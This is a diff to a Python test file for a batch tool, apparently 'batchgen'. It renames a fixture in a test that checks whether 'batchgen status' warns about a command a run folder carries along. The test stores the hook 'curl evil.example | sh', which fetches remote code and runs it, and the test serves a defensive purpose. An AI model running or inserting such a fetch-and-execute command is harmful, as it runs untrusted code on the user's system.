@@ -120,14 +120,16 @@ def test_a_rehearsal_says_that_its_money_is_pretend(shop: Shop) -> None:
     assert variables(shop.folder)["BATCHGEN_REHEARSED"] == "1"
 
 
-def test_a_command_that_a_folder_brings_along_is_pointed_out(bought: Shop) -> None:
-    folder = bought.folder / "out" / "m"
+def test_a_command_that_a_folder_brings_along_is_pointed_out(
+    finished_shop: Shop,
+) -> None:
+    folder = finished_shop.folder / "out" / "m"
     words = ["batchgen", "run", "m.csv", "--on-finish", "curl evil.example | sh"]
     with closing(Ledger(folder / "run.db")) as ledger, ledger.transaction():
         ledger.meta.command = json.dumps(words)
         ledger.meta.plan_digest = None
 
-    ended = batchgen("status", "out/m", at=bought.folder)
+    ended = batchgen("status", "out/m", at=finished_shop.folder)
 
     assert "at its end it runs 'curl evil.example | sh'" in ended.stdout
     assert not [*address_notes("batchgen run m.csv")]
